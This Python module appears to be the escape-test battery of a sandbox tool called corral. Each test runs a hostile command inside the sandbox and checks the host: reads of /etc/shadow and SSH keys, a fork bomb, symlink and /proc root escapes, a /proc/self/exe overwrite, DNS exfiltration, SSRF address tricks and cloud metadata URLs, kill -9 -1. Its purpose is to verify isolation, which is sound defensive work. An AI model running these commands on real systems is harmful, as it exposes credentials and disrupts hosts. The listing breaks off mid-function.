"""The escape battery: attacks run inside a sandbox, each checked on the host.

Every attack is a function taking an `AttackContext`. It runs something hostile inside the
sandbox and returns if the attack was stopped; it raises `Breach` (the attack worked, or it changed
something on the host) or `NotApplicable` (it cannot be tried here). `requires` lists the backend
features the attack tests: on a backend that does not claim them the attack is reported as not
claimed rather than run. The same battery backs tests/escape and `corral selftest`.
"""

from __future__ import annotations

import os
import shutil
import sys
import tempfile
import time

from corral.backends.base import Result

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from corral.backends.base import Backend

    AttackFn = Callable[["AttackContext"], None]


class Breach(Exception):
    """The attack got through (or changed the host)."""


class NotApplicable(Exception):
    """The attack cannot be tried on this host (a missing tool, a missing device)."""


class Attack:
    def __init__(self, fn: AttackFn, *, category: str, title: str, requires: frozenset[str]) -> None:
        self.fn = fn
        self.name = fn.__name__
        self.category = category
        self.title = title
        self.requires = requires


BATTERY: list[Attack] = []


def attack(category: str, title: str, *, requires: Sequence[str] = ()) -> Callable[[AttackFn], AttackFn]:
    def register(fn: AttackFn) -> AttackFn:
        BATTERY.append(Attack(fn, category=category, title=title, requires=frozenset(requires)))
        return fn

    return register


class AttackContext:
    """Host-side scaffolding for one attack: a workspace, canaries outside it, and a way to run code inside."""

    def __init__(self, backend: Backend, *, base: str | None = None) -> None:
        if backend.strength <= 0:
            # These are real attacks: without isolation they would mount over the host's /tmp,
            # ptrace its init, and so on. Never aim them at a backend that isolates nothing.
            raise ValueError(f"refusing to attack the host through the {backend.name!r} backend")
        self.backend = backend
        self.root = os.path.realpath(tempfile.mkdtemp(prefix="corral-attack-", dir=base))
        os.chmod(self.root, 0o755)
        self.workspace = os.path.join(self.root, "workspace")
        self.outside = os.path.join(self.root, "outside")
        os.mkdir(self.workspace)
        os.mkdir(self.outside)
        self.secret = os.path.join(self.outside, "secret.txt")
        with open(self.secret, "w") as f:
            f.write("TOP-SECRET-CANARY\n")
        os.chmod(self.secret, 0o644)  # readable by anyone on the host: only the sandbox must stop it

    def close(self) -> None:
        shutil.rmtree(self.root, ignore_errors=True)

    def __enter__(self) -> AttackContext:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    def policy(self, **limits: object):  # type: ignore[no-untyped-def]
        from corral.policy.model import Limits, Policy, Zone
        from corral.policy.resolve import resolve

        policy = Policy(zones=(Zone.rw(self.workspace), Zone.tmpfs("/tmp", size=64 << 20)),
                        limits=Limits(**limits))  # type: ignore[arg-type]  # fmt: skip
        return resolve(policy, host_env={"CORRAL_CANARY_ENV": "TOP-SECRET-CANARY"}, host_cwd=self.workspace)

    def run(
        self, argv: Sequence[str], *, stdin: bytes | int | None = None, timeout: float = 30, **limits: object
    ) -> Result:
        return self.backend.run(self.policy(**limits), list(argv), sandbox_id="selftest", stdin=stdin, timeout=timeout)

    def sh(self, script: str, **kwargs: object) -> Result:
        return self.run(["/bin/sh", "-c", script], **kwargs)  # type: ignore[arg-type]

    def python(self, code: str, **kwargs: object) -> Result:
        if shutil.which("python3", path="/usr/bin:/bin") is None:
            raise NotApplicable("no python3 in the system view")
        return self.run(["python3", "-c", code], **kwargs)  # type: ignore[arg-type]

    def host_unchanged(self) -> None:
        with open(self.secret) as f:
            if f.read() != "TOP-SECRET-CANARY\n":
                raise Breach("the host canary file was modified")
        extra = set(os.listdir(self.outside)) - {"secret.txt"}
        if extra:
            raise Breach(f"files appeared outside the zones: {sorted(extra)}")


def no_canary(result: Result, what: str) -> None:
    if b"TOP-SECRET-CANARY" in result.stdout or b"TOP-SECRET-CANARY" in result.stderr:
        raise Breach(f"{what}: the canary leaked")


def expect(condition: bool, message: str) -> None:
    if not condition:
        raise Breach(message)


_SYSCALL = """
import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(*args):
    r = libc.syscall(*args)
    return r, ctypes.get_errno()
"""
_NR = {"x86_64": {"io_uring_setup": 425, "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "keyctl": 250,
                  "unshare": 272, "setns": 308, "ptrace": 101, "init_module": 175, "process_vm_readv": 310,
                  "open_by_handle_at": 304, "clone": 56},
       "aarch64": {"io_uring_setup": 425, "bpf": 280, "perf_event_open": 241, "userfaultfd": 282, "keyctl": 219,
                   "unshare": 97, "setns": 268, "ptrace": 117, "init_module": 105, "process_vm_readv": 270,
                   "open_by_handle_at": 265, "clone": 220}}  # fmt: skip


def _nr(name: str) -> int:
    return _NR.get(os.uname().machine, _NR["x86_64"])[name]


def _syscall_refused(ctx: AttackContext, name: str, args: str, what: str) -> None:
    code = _SYSCALL + f"r, e = call({_nr(name)}, {args})\nprint('RESULT', r, e)\nsys.exit(0 if r < 0 else 42)\n"
    r = ctx.python(code)
    expect(r.returncode == 0, f"{what}: the syscall succeeded ({r.stdout_text.strip()} {r.stderr_text.strip()})")
    ctx.host_unchanged()


# ------------------------------------------------------------------ filesystem
@attack("filesystem", "read /etc/shadow", requires=["fs.isolation"])
def read_etc_shadow(ctx: AttackContext) -> None:
    r = ctx.sh("cat /etc/shadow; cat /etc/gshadow; cat /etc/sudoers")
    expect(b"root:" not in r.stdout, "read /etc/shadow")


@attack("filesystem", "read a host file outside the zones", requires=["fs.isolation"])
def read_outside_file(ctx: AttackContext) -> None:
    r = ctx.sh(f"cat {ctx.secret}; cat {ctx.workspace}/../outside/secret.txt")
    no_canary(r, "absolute and .. paths")


@attack("filesystem", "read ~/.ssh and /root", requires=["fs.isolation"])
def read_home_secrets(ctx: AttackContext) -> None:
    r = ctx.sh("ls -la /root /home 2>&1; cat /root/.ssh/* /home/*/.ssh/* 2>&1; cat ~/.ssh/* 2>&1")
    expect(b"PRIVATE KEY" not in r.stdout, "read an ssh key")
    expect(b"authorized_keys" not in r.stdout, "listed a host .ssh directory")


@attack("filesystem", "write outside the zones with ..", requires=["fs.isolation"])
def write_dotdot(ctx: AttackContext) -> None:
    ctx.sh(f"echo pwned > ../outside/pwned; echo pwned > /tmp/../../{ctx.outside.lstrip('/')}/pwned2; "
           f"echo pwned > {ctx.outside}/pwned3")  # fmt: skip
    ctx.host_unchanged()


@attack("filesystem", "write through a planted symlink", requires=["fs.isolation"])
def write_through_symlink(ctx: AttackContext) -> None:
    os.symlink(ctx.secret, os.path.join(ctx.workspace, "innocent.txt"))
    os.symlink(ctx.outside, os.path.join(ctx.workspace, "innocent-dir"))
    r = ctx.sh("cat innocent.txt; echo pwned > innocent.txt; echo pwned > innocent-dir/new.txt; "
               "ln -s / root-link; echo pwned > root-link/etc/pwned")  # fmt: skip
    no_canary(r, "reading through a symlink")
    ctx.host_unchanged()


@attack("filesystem", "hard-link a file from outside", requires=["fs.isolation"])
def hard_link_outside(ctx: AttackContext) -> None:
    ctx.sh(f"ln {ctx.secret} stolen; echo pwned >> stolen")
    ctx.host_unchanged()


@attack("filesystem", "escape through /proc/self/root and /proc/1/root", requires=["fs.isolation"])
def proc_root_escape(ctx: AttackContext) -> None:
    r = ctx.sh(f"cat /proc/self/root{ctx.secret}; cat /proc/1/root{ctx.secret}; cat /proc/1/root/etc/shadow; "
               f"echo pwned > /proc/self/root{ctx.outside}/pwned")  # fmt: skip
    no_canary(r, "/proc/*/root")
    expect(b"root:" not in r.stdout, "/proc/1/root/etc/shadow")
    ctx.host_unchanged()


@attack("filesystem", "write the read-only system view", requires=["fs.isolation"])
def write_system_dirs(ctx: AttackContext) -> None:
    r = ctx.sh("for d in /usr /usr/bin /etc /bin /lib; do touch $d/corral-pwned && echo WROTE $d; done")
    expect(b"WROTE" not in r.stdout, f"wrote a system directory: {r.stdout_text}")
    for d in ("/usr", "/usr/bin", "/etc"):
        expect(not os.path.exists(f"{d}/corral-pwned"), f"{d}/corral-pwned exists on the host")


@attack("filesystem", "create a device node", requires=["fs.isolation"])
def make_device_node(ctx: AttackContext) -> None:
    r = ctx.sh("mknod disk b 8 0 && echo MADE; mknod mem c 1 1 && echo MADE")
    expect(b"MADE" not in r.stdout, "created a device node")


# ------------------------------------------------------------------ processes
@attack("processes", "see host processes", requires=["proc.isolation"])
def see_host_processes(ctx: AttackContext) -> None:
    r = ctx.sh("ls /proc")
    pids = {int(x) for x in r.stdout.split() if x.isdigit()}
    expect(os.getpid() not in pids or len(pids) < 10, f"saw host pids: {sorted(pids)[:20]}")
    expect(len(pids) < 10, f"saw {len(pids)} processes")


@attack("processes", "read a host process's environment", requires=["fs.isolation"])
def read_host_environ(ctx: AttackContext) -> None:
    os.environ["CORRAL_CANARY_PARENT"] = "TOP-SECRET-CANARY"
    try:
        r = ctx.sh(f"cat /proc/{os.getpid()}/environ /proc/1/environ /proc/$PPID/environ 2>&1; env")
    finally:
        del os.environ["CORRAL_CANARY_PARENT"]
    no_canary(r, "a host process's environment")


@attack("processes", "ptrace another process (CVE-2019-13272 class)", requires=["syscall.filter"])
def ptrace_attach(ctx: AttackContext) -> None:
    # PTRACE_ATTACH (16) to pid 1 of whatever this sandbox sees
    _syscall_refused(ctx, "ptrace", "16, 1, 0, 0", "ptrace(PTRACE_ATTACH)")


@attack("processes", "process_vm_readv", requires=["syscall.filter"])
def process_vm_readv(ctx: AttackContext) -> None:
    _syscall_refused(ctx, "process_vm_readv", "1, 0, 0, 0, 0, 0", "process_vm_readv")


@attack("processes", "mount a filesystem (cgroup release_agent, CVE-2022-0492 class)", requires=["syscall.filter"])
def mount_tmpfs(ctx: AttackContext) -> None:
    r = ctx.python(_SYSCALL + "r = libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)\nsys.exit(0 if r < 0 else 42)\n")
    expect(r.returncode == 0, "mount() succeeded")


@attack("processes", "new user namespace (unshare -U)", requires=["syscall.filter"])
def new_user_namespace(ctx: AttackContext) -> None:
    _syscall_refused(ctx, "unshare", "0x10000000", "unshare(CLONE_NEWUSER)")
    if shutil.which("unshare"):
        r = ctx.sh("unshare -U -r id -u")
        expect(r.returncode != 0, "unshare -U -r worked")


@attack("processes", "clone a new user namespace", requires=["syscall.filter"])
def clone_new_user(ctx: AttackContext) -> None:
    _syscall_refused(ctx, "clone", "0x10000000 | 17, 0, 0, 0, 0", "clone(CLONE_NEWUSER)")


@attack("processes", "setns into another namespace", requires=["syscall.filter"])
def setns_escape(ctx: AttackContext) -> None:
    code = _SYSCALL + (
        "fd = os.open('/proc/1/ns/mnt', os.O_RDONLY)\n"
        f"r, e = call({_nr('setns')}, fd, 0)\nsys.exit(0 if r < 0 else 42)\n"
    )
    r = ctx.python(code)
    expect(r.returncode != 42, "setns() succeeded")


@attack("processes", "TIOCSTI keystroke injection (CVE-2017-5226)", requires=["syscall.filter"])
def tiocsti(ctx: AttackContext) -> None:
    master, slave = os.openpty()
    try:
        r = ctx.python(
            "import fcntl, termios, sys\n"
            "try:\n    fcntl.ioctl(0, termios.TIOCSTI, b'x')\nexcept OSError as e:\n    sys.exit(0)\nsys.exit(42)\n",
            stdin=slave,
        )
    finally:
        os.close(slave)
        os.close(master)
    expect(r.returncode == 0, "TIOCSTI injected a keystroke")


@attack("processes", "io_uring (socket rules bypass, CVE-2022-29582 class)", requires=["syscall.filter"])
def io_uring(ctx: AttackContext) -> None:
    _syscall_refused(ctx, "io_uring_setup", "8, ctypes.create_string_buffer(120)", "io_uring_setup")


@attack("processes", "bpf() (verifier bugs, CVE-2021-3490 class)", requires=["syscall.filter"])
def bpf_syscall(ctx: AttackContext) -> None:
    _syscall_refused(ctx, "bpf", "0, 0, 0", "bpf")


@attack("processes", "perf_event_open (CVE-2013-2094 class)", requires=["syscall.filter"])
def perf_event(ctx: AttackContext) -> None:
    _syscall_refused(ctx, "perf_event_open", "ctypes.create_string_buffer(128), 0, -1, -1, 0", "perf_event_open")


@attack("processes", "userfaultfd (race-widening for kernel exploits)", requires=["syscall.filter"])
def userfaultfd(ctx: AttackContext) -> None:
    _syscall_refused(ctx, "userfaultfd", "0", "userfaultfd")


@attack("processes", "keyctl (kernel keyrings, CVE-2016-0728 class)", requires=["syscall.filter"])
def keyctl(ctx: AttackContext) -> None:
    _syscall_refused(ctx, "keyctl", "0, 0, 0", "keyctl")


@attack("processes", "load a kernel module", requires=["syscall.filter"])
def load_module(ctx: AttackContext) -> None:
    _syscall_refused(ctx, "init_module", "0, 0, b''", "init_module")


@attack("processes", "setuid binaries give nothing", requires=["syscall.filter"])
def setuid_binary(ctx: AttackContext) -> None:
    r = ctx.sh("grep NoNewPrivs /proc/self/status; "
               "su root -c 'grep CapEff /proc/self/status' </dev/null 2>/dev/null; "
               "sudo -n grep CapEff /proc/self/status 2>/dev/null")  # fmt: skip
    if b"NoNewPrivs:" not in r.stdout:  # old gVisor has no such line: ask prctl(PR_GET_NO_NEW_PRIVS)
        nnp = ctx.python("import ctypes; print('NoNewPrivs:\\t%d' % ctypes.CDLL(None).prctl(39, 0, 0, 0, 0))")
        r = Result(argv=r.argv, returncode=r.returncode, stdout=nnp.stdout + r.stdout)
    expect(b"NoNewPrivs:\t1" in r.stdout, "no_new_privs is not set")
    for line in r.stdout_text.splitlines():
        if line.startswith("CapEff:"):
            expect(not line.split(":", 1)[1].strip().strip("0"), "a setuid binary gave capabilities back")


# ------------------------------------------------------------------ resources
@attack("resources", "fork bomb", requires=["limits.pids"])
def fork_bomb(ctx: AttackContext) -> None:
    started = time.monotonic()
    r = ctx.sh("bomb() { bomb | bomb & }; bomb; sleep 5", pids=64, timeout=15)
    expect(time.monotonic() - started < 40, "the fork bomb was not stopped in time")
    expect(r.reason in ("timeout", "pids", "exited"), f"unexpected end: {r.reason}")
    # the host still answers
    t = time.monotonic()
    os.system("true")
    expect(time.monotonic() - t < 5, "the host is unresponsive")


@attack("resources", "memory hog", requires=["limits.memory"])
def memory_hog(ctx: AttackContext) -> None:
    r = ctx.python("b = bytearray(1024 * 2**20)", memory=64 << 20, timeout=60)
    expect(r.returncode != 0, "allocated 1 GiB under a 64 MiB limit")


@attack("resources", "CPU spin", requires=["limits.timeout"])
def cpu_spin(ctx: AttackContext) -> None:
    started = time.monotonic()
    r = ctx.sh("while :; do :; done", timeout=2)
    expect(r.reason == "timeout", f"ended by {r.reason}")
    expect(time.monotonic() - started < 10, "ran far past its time limit")


@attack("resources", "output flood", requires=["limits.output"])
def output_flood(ctx: AttackContext) -> None:
    r = ctx.sh("yes AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", output=1 << 20, timeout=30)
    expect(r.reason == "output", f"ended by {r.reason}")
    expect(len(r.stdout) + len(r.stderr) <= (1 << 20), "captured more than the output limit")


@attack("resources", "a child that outlives the sandbox (double fork, setsid)", requires=["limits.timeout"])
def outlive_sandbox(ctx: AttackContext) -> None:
    marker = os.path.join(ctx.workspace, "survivor")
    ctx.sh(f"setsid sh -c '(sleep 2; touch {marker}) &' ; (sh -c '(sleep 2; touch {marker}2) &' &); sleep 30",
           timeout=1)  # fmt: skip
    time.sleep(3)
    expect(not os.path.exists(marker) and not os.path.exists(marker + "2"), "a child outlived its sandbox")


@attack("resources", "file size limit", requires=["limits.file_size"])
def big_file(ctx: AttackContext) -> None:
    r = ctx.sh("head -c 10000000 /dev/zero > big.bin", file_size=1 << 20)
    size = (
        os.path.getsize(os.path.join(ctx.workspace, "big.bin"))
        if os.path.exists(os.path.join(ctx.workspace, "big.bin"))
        else 0
    )
    expect(size <= 1 << 20, f"wrote {size} bytes past a 1 MiB limit")
    expect(r.returncode != 0, "the write did not fail")


# ------------------------------------------------------------------ information
@attack("information", "host environment secrets")
def host_env_secret(ctx: AttackContext) -> None:
    os.environ["AWS_SECRET_ACCESS_KEY"] = "TOP-SECRET-CANARY"
    try:
        r = ctx.sh("env; cat /proc/self/environ")
    finally:
        del os.environ["AWS_SECRET_ACCESS_KEY"]
    no_canary(r, "the environment")


@attack("network", "reach the host's loopback", requires=["net.none"])
def host_loopback(ctx: AttackContext) -> None:
    import socket

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    port = server.getsockname()[1]
    try:
        r = ctx.python(
            f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=3)\nprint('CONNECTED')"
        )
    finally:
        server.close()
    expect(b"CONNECTED" not in r.stdout, "connected to a host loopback service")


@attack("filesystem", "read /sys secrets", requires=["fs.isolation"])
def read_sys(ctx: AttackContext) -> None:
    r = ctx.sh("ls /sys 2>&1; cat /sys/class/dmi/id/product_uuid /sys/class/dmi/id/board_serial "
               "/sys/kernel/security/lsm 2>&1")  # fmt: skip
    expect(b"class" not in r.stdout.split(b"\n", 1)[0] or r.returncode != 0, "listed /sys")
    if os.path.exists("/sys/class/dmi/id/product_uuid"):
        try:
            with open("/sys/class/dmi/id/product_uuid", "rb") as f:
                uuid = f.read().strip()
        except OSError:
            uuid = b""
        expect(not uuid or uuid not in r.stdout, "read the machine's product uuid")


@attack("filesystem", "write a read-only zone", requires=["fs.isolation"])
def write_readonly_zone(ctx: AttackContext) -> None:
    from corral.policy.model import Policy, Zone
    from corral.policy.resolve import resolve

    rp = resolve(Policy(zones=(Zone.rw(ctx.workspace), Zone.ro(ctx.outside), Zone.tmpfs("/tmp"))), host_env={},
                 host_cwd=ctx.workspace)  # fmt: skip
    script = (
        f"cat {ctx.secret}; echo pwned > {ctx.secret}; touch {ctx.outside}/new; "
        f"rm -f {ctx.secret}; mv {ctx.secret} {ctx.outside}/moved"
    )
    r = ctx.backend.run(rp, ["/bin/sh", "-c", script], sandbox_id="selftest")
    expect(b"TOP-SECRET-CANARY" in r.stdout, "the read-only zone was not readable")
    ctx.host_unchanged()


@attack("filesystem", "rename over a mount point", requires=["fs.isolation"])
def rename_mount_point(ctx: AttackContext) -> None:
    ctx.sh(f"mv {ctx.workspace} {ctx.workspace}.moved; mv /tmp /tmp2; mkdir -p /tmp/x; "
           f"mv {ctx.workspace}/.. {ctx.root}/x 2>&1")  # fmt: skip
    expect(os.path.isdir(ctx.workspace), "the workspace was renamed on the host")
    expect(not os.path.exists(ctx.workspace + ".moved"), "a rename reached the host")
    ctx.host_unchanged()


@attack("filesystem", "write the parent of a zone", requires=["fs.isolation"])
def write_zone_parent(ctx: AttackContext) -> None:
    ctx.sh(f"touch {ctx.root}/pwned; mkdir {ctx.root}/pwned-dir; echo x > $(dirname $PWD)/pwned2")
    expect(set(os.listdir(ctx.root)) == {"workspace", "outside"}, f"wrote beside the zone: {os.listdir(ctx.root)}")


@attack("filesystem", "bind mount the host root", requires=["syscall.filter"])
def bind_mount_root(ctx: AttackContext) -> None:
    r = ctx.sh("mkdir -p /tmp/r && mount --bind / /tmp/r && ls /tmp/r/root && echo MOUNTED")
    expect(b"MOUNTED" not in r.stdout, "bind-mounted /")


@attack("filesystem", "overwrite the runtime through /proc/self/exe (CVE-2019-5736)", requires=["fs.isolation"])
def overwrite_proc_exe(ctx: AttackContext) -> None:
    import hashlib

    before = {}
    for path in {os.path.realpath(sys.executable), _bwrap_path()} - {""}:
        with open(path, "rb") as f:
            before[path] = hashlib.sha256(f.read()).hexdigest()
    r = ctx.python(
        "import os\nfor p in ('/proc/self/exe', '/proc/1/exe', '/proc/2/exe'):\n"
        "    try:\n        fd = os.open(p, os.O_WRONLY)\n        os.write(fd, b'pwned')\n        print('WROTE', p)\n"
        "    except OSError:\n        pass\n"
    )
    expect(b"WROTE" not in r.stdout, "opened a runtime binary for writing")
    for path, digest in before.items():
        with open(path, "rb") as f:
            expect(hashlib.sha256(f.read()).hexdigest() == digest, f"{path} changed on the host")


def _bwrap_path() -> str:
    try:
        from corral.backends.namespace.launch import find_bwrap

        return os.path.realpath(find_bwrap().path)
    except Exception:
        return ""


@attack("processes", "signal a host process", requires=["fs.isolation"])
def signal_host_process(ctx: AttackContext) -> None:
    import subprocess

    from corral.errors import SandboxLost

    victim = subprocess.Popen(["sleep", "60"])
    try:
        try:
            ctx.sh(f"kill -9 {victim.pid}; kill -STOP {os.getpid()}; kill -9 -1")
        except SandboxLost:
            pass  # `kill -9 -1` may take down the sandbox's own agent: that hurts only the sandbox
        time.sleep(0.2)
        expect(victim.poll() is None, "killed a host process")
    finally:
        victim.kill()
        victim.wait()


@attack("processes", "read another process's memory through /proc/PID/mem", requires=["syscall.filter"])
def proc_pid_mem(ctx: AttackContext) -> None:
    r = ctx.sh(f"sleep 5 & p=$!; dd if=/proc/$p/mem bs=1 count=1 skip=4194304 2>&1; "
               f"dd if=/proc/{os.getpid()}/mem bs=1 count=16 2>&1; dd if=/proc/1/mem bs=1 count=16 2>&1; "
               "head -c 64 /proc/1/environ; kill $p")  # fmt: skip
    no_canary(r, "/proc/PID/mem")
    expect(b"records in" not in r.stdout or b"1+0 records in" not in r.stdout, "read another process's memory")


@attack("processes", "chroot escape", requires=["syscall.filter"])
def chroot_escape(ctx: AttackContext) -> None:
    r = ctx.python("import os, sys\ntry:\n    os.chroot('/tmp')\nexcept OSError:\n    sys.exit(0)\nsys.exit(42)\n")
    expect(r.returncode == 0, "chroot() succeeded")


@attack("processes", "TIOCLINUX console injection", requires=["syscall.filter"])
def tioclinux(ctx: AttackContext) -> None:
    master, slave = os.openpty()
    try:
        r = ctx.python(
            "import fcntl, sys\n"
            "try:\n    fcntl.ioctl(0, 0x541C, bytes([2, 0, 0, 0, 0, 0, 0]))\nexcept OSError as e:\n"
            "    sys.exit(0 if e.errno == 1 else 3)\nsys.exit(42)\n",
            stdin=slave,
        )
    finally:
        os.close(slave)
        os.close(master)
    expect(r.returncode == 0, f"TIOCLINUX was not refused by the filter (exit {r.returncode})")


# ------------------------------------------------------------------ network
@attack("network", "raw and packet sockets", requires=["syscall.filter"])
def raw_sockets(ctx: AttackContext) -> None:
    r = ctx.python(
        "import socket\nfor args in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0)):\n"
        "    try:\n        socket.socket(*args)\n        print('OPENED', args)\n    except OSError:\n        pass\n"
    )
    expect(b"OPENED" not in r.stdout, f"opened a raw socket: {r.stdout_text}")


@attack("network", "netlink sockets other than route", requires=["syscall.filter"])
def netlink_sockets(ctx: AttackContext) -> None:
    r = ctx.python(
        "import socket\nfor proto in (9, 15, 4, 16):  # audit, kobject_uevent, sock_diag, generic\n"
        "    try:\n        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto)\n        print('OPENED', proto)\n"
        "    except OSError:\n        pass\n"
    )
    expect(b"OPENED" not in r.stdout, f"opened a netlink socket: {r.stdout_text}")


@attack("network", "a host service's unix socket", requires=["fs.isolation"])
def host_unix_socket(ctx: AttackContext) -> None:
    import socket

    path = os.path.join(ctx.outside, "service.sock")
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(1)
    abstract = socket.socket(socket.AF_UNIX)
    name = f"corral-selftest-{os.getpid()}-{time.monotonic_ns()}"
    abstract.bind("\0" + name)
    abstract.listen(1)
    try:
        r = ctx.python(
            f"import socket\nfor addr in ({path!r}, {chr(0) + name!r}):\n    s = socket.socket(socket.AF_UNIX)\n"
            "    try:\n        s.connect(addr)\n        print('CONNECTED', repr(addr))\n    except OSError:\n"
            "        pass\n"
        )
    finally:
        server.close()
        abstract.close()
        os.unlink(path)
    expect(b"CONNECTED" not in r.stdout, f"reached a host unix socket: {r.stdout_text}")


@attack("network", "UDP to the host's loopback", requires=["net.none"])
def host_udp(ctx: AttackContext) -> None:
    import socket

    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    server.settimeout(1.0)
    port = server.getsockname()[1]
    try:
        ctx.python(f"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                   f"s.sendto(b'TOP-SECRET-CANARY', ('127.0.0.1', {port}))")  # fmt: skip
        try:
            data = server.recv(100)
        except OSError:
            data = b""
    finally:
        server.close()
    expect(b"CANARY" not in data, "a datagram reached the host")


@attack("network", "DNS exfiltration", requires=["net.none"])
def dns_exfiltration(ctx: AttackContext) -> None:
    r = ctx.python(
        "import socket\ntry:\n    print(socket.getaddrinfo('canary-secret.example.com', 53))\n    print('RESOLVED')\n"
        "except OSError:\n    pass\n",
        timeout=20,
    )
    expect(b"RESOLVED" not in r.stdout, "a name was resolved (DNS left the sandbox)")


# ------------------------------------------------------------------ resources
@attack("resources", "fill a tmpfs", requires=["fs.tmpfs"])
def fill_tmpfs(ctx: AttackContext) -> None:
    r = ctx.sh("head -c 200000000 /dev/zero > ${TMPDIR:-/tmp}/fill; ls -l ${TMPDIR:-/tmp}/fill", timeout=60)
    size = 0
    for word in r.stdout.split():
        if word.isdigit():
            size = max(size, int(word))
    expect(size <= 64 << 20 or ctx.backend.name != "namespace", f"wrote {size} bytes to a 64 MiB tmpfs")


# ------------------------------------------------------------------ information
@attack("information", "the host's name", requires=["proc.isolation"])
def host_name(ctx: AttackContext) -> None:
    import socket

    r = ctx.sh("hostname; uname -n; cat /etc/hostname")
    host = socket.gethostname().encode()
    expect(host == b"corral" or host not in r.stdout, f"saw the host name {host!r}")


@attack("information", "another sandbox's files", requires=["fs.tmpfs"])
def other_sandbox_files(ctx: AttackContext) -> None:
    ctx.sh("echo TOP-SECRET-CANARY > ${TMPDIR:-/tmp}/left-behind")
    r = ctx.sh("cat ${TMPDIR:-/tmp}/left-behind; ls ${TMPDIR:-/tmp}")
    no_canary(r, "a file from an earlier sandbox")


@attack("information", "the audit log", requires=["fs.isolation"])
def audit_log(ctx: AttackContext) -> None:
    import corral.sandbox

    log = os.path.join(ctx.outside, "audit.jsonl")
    with open(log, "w") as f:
        f.write('{"event": "TOP-SECRET-CANARY"}\n')
    policy = ctx.policy()
    r = corral.sandbox.run(["/bin/sh", "-c", f"cat {log}; echo forged >> {log}"], policy=policy,
                           backend=ctx.backend.name, audit=log)  # fmt: skip
    no_canary(r, "the audit log")
    with open(log) as f:
        expect("forged\n" not in f.read().splitlines(keepends=True), "wrote into the audit log")
    os.unlink(log)


@attack("policy", "a denied command is refused and audited")
def denied_command_audited(ctx: AttackContext) -> None:
    import json

    import corral.sandbox
    from corral.policy.model import Commands

    log = os.path.join(ctx.root, "audit.jsonl")
    policy = ctx.policy().replace(commands=Commands(deny=["rm"]))
    r = corral.sandbox.run(["sh", "-c", f"rm -rf {ctx.workspace}"], policy=policy, backend=ctx.backend.name,
                           audit=log)  # fmt: skip
    expect(r.reason == "denied", f"the command was not denied ({r.reason})")
    expect(os.path.isdir(ctx.workspace), "the workspace was removed")
    with open(log) as f:
        events = [json.loads(line) for line in f]
    expect(
        any(e.get("event") == "decision" and e.get("action") == "deny" for e in events), "no denial in the audit log"
    )
    os.unlink(log)


# ------------------------------------------------------------------ network: the allowlist proxy
class _Origin:
    """A tiny HTTP server on the host's loopback that records whether anyone reached it."""

    def __init__(self) -> None:
        import socket
        import threading

        self.hits = 0
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = int(self.sock.getsockname()[1])
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.hits += 1
            try:
                conn.recv(4096)
                conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 17\r\n\r\nTOP-SECRET-CANARY")
            except OSError:
                pass
            conn.close()

    def close(self) -> None:
        self.sock.close()


def _through_proxy(ctx: AttackContext, allowed: _Origin, urls: list[str]) -> Result:
    from corral.policy.model import Network

    rp = ctx.policy().replace(network=Network(mode="allow", allow=[f"127.0.0.1:{allowed.port}"]))
    code = (
        "import urllib.request\n"
        f"for url in {urls!r}:\n"
        "    try:\n"
        "        body = urllib.request.urlopen(url, timeout=5).read()\n"
        "        print('REACHED', url, body)\n"
        "    except Exception as exc:\n"
        "        print('refused', url, type(exc).__name__)\n"
    )
    if shutil.which("python3", path="/usr/bin:/bin") is None:
        raise NotApplicable("no python3 in the system view")
    return ctx.backend.run(rp, ["python3", "-c", code], sandbox_id="selftest", timeout=60)


@attack("network", "proxy: a host and port not on the allowlist", requires=["net.allow"])
def proxy_not_allowed(ctx: AttackContext) -> None:
    allowed, other = _Origin(), _Origin()
    try:
        r = _through_proxy(ctx, allowed, [f"http://127.0.0.1:{allowed.port}/", f"http://127.0.0.1:{other.port}/",
                                          f"http://localhost:{other.port}/"])  # fmt: skip
    finally:
        allowed.close()
        other.close()
    expect(allowed.hits >= 1, f"the allowed origin was not reachable: {r.stdout_text} {r.stderr_text}")
    expect(other.hits == 0, "a port not on the allowlist was reached")


@attack("network", "proxy: numeric spellings and mapped addresses (SSRF tricks)", requires=["net.allow"])
def proxy_numeric_tricks(ctx: AttackContext) -> None:
    allowed, other = _Origin(), _Origin()
    p = other.port
    try:
        hosts = ("2130706433", "0x7f.1", "0177.0.0.1", "127.1", "[::ffff:127.0.0.1]", "[::1]")
        _through_proxy(ctx, allowed, [f"http://{host}:{p}/" for host in hosts])
    finally:
        allowed.close()
        other.close()
    expect(other.hits == 0, "a numeric or mapped spelling of a loopback address got through")


@attack("network", "proxy: the cloud metadata service", requires=["net.allow"])
def proxy_metadata(ctx: AttackContext) -> None:
    allowed = _Origin()
    try:
        r = _through_proxy(ctx, allowed, ["http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/",
                                          "http://[fd00:ec2::254]/"])  # fmt: skip
    finally:
        allowed.close()
    expect(b"REACHED" not in r.stdout, f"reached a metadata address: {r.stdout_text}")


@attack("network", "proxy: going around it (direct connection, NO_PROXY)", requires=["net.allow"])
def proxy_bypass_direct(ctx: AttackContext) -> None:
    from corral.policy.model import Network

    allowed = _Origin()
    try:
        rp = ctx.policy().replace(network=Network(mode="allow", allow=[f"127.0.0.1:{allowed.port}"]))
        code = (
            "import socket, os\n"
            f"for host in ('127.0.0.1', '::1'):\n"
            "    try:\n"
